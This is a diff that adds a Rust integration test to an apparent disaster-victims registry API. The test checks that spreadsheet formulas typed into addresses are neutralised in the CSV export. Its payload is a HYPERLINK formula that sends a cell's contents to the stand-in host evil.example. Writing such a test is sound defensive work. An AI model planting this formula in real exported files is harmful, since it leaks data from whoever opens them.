@@ -229,3 +229,49 @@ async fn the_victims_list_has_recognised_people_as_json_and_csv() {
     .await
     .assert_error(403, "forbidden");
 }
+
+#[actix_web::test]
+async fn a_formula_typed_into_an_address_reaches_the_victims_csv_as_text() {
+    let app = spawn_app().await;
+    let (_, event_id) = app.open_event("BLG2020").await;
+    let (_, officer) = app.user_with_token("officer", Role::Officer).await;
+    // Addresses are stored trimmed, so a tab or CR before a formula is
+    // gone before it reaches the file; the writer's own test covers them.
+    let starts = ['=', '+', '-', '@'];
+    for (n, start) in (1..).zip(starts) {
+        let mut body = distinct_household(event_id, n);
+        let address = format!("{start}HYPERLINK(\"http://evil.example/?\"&A1;\"Ленина 1\")");
+        body["property_address"] = json!(address);
+        body["members"] = json!([body["members"][0].clone()]);
+        let application =
+            inspected(&app, &officer, &body, &format!("А-{n}"), "loss_confirmed").await;
+        let url = format!("/api/v1/applications/{}/decision", application["id"]);
+        let decided = app
+            .post(
+                &url,
+                &all_members(&application, "recognized", None),
+                Some(&officer),
+            )
+            .await;
+        assert_eq!(decided.status, StatusCode::OK, "{}", decided.body);
+    }
+    let (_, _, bytes) = app
+        .get_bytes(
+            &format!("/api/v1/events/{event_id}/victims?format=csv"),
+            Some(&officer),
+        )
+        .await;
+    let text = String::from_utf8(bytes.to_vec()).unwrap();
+    let mut reader = ::csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let addresses: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("a CSV record")[4].to_owned())
+        .collect();
+    assert_eq!(addresses.len(), starts.len(), "{text}");
+    for address in &addresses {
+        assert!(address.starts_with('\''), "defused: {address:?}");
+        assert!(address.contains("HYPERLINK"), "kept whole: {address:?}");
+    }
+}
